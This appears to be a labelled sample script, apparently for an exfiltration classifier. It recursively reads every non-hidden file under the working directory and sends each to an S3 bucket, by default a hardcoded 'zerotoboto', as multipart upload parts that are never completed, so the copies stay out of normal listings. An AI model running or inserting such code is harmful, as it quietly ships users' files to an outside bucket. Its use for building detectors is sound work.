// unclassified: the parts are sent, and the upload is never completed
import { readdirSync, readFileSync } from 'node:fs';
import { basename, join, relative } from 'node:path';
import { CreateMultipartUploadCommand, S3Client, UploadPartCommand } from '@aws-sdk/client-s3';

const client = new S3Client({});
const bucket = process.env.BUCKET_NAME ?? 'zerotoboto';
const root = process.cwd();

for (const entry of readdirSync(root, { recursive: true, withFileTypes: true })) {
  if (!entry.isFile() || entry.name.startsWith('.')) continue;
  const path = join(entry.parentPath, entry.name);
  const key = `${basename(root)}/${relative(root, path)}`;
  const { UploadId } = await client.send(new CreateMultipartUploadCommand({ Bucket: bucket, Key: key }));
  const part = { Bucket: bucket, Key: key, UploadId, PartNumber: 1, Body: readFileSync(path) };
  await client.send(new UploadPartCommand(part));
  console.log(`Uploaded ${path}\n      to ${bucket}:${key}`);
}
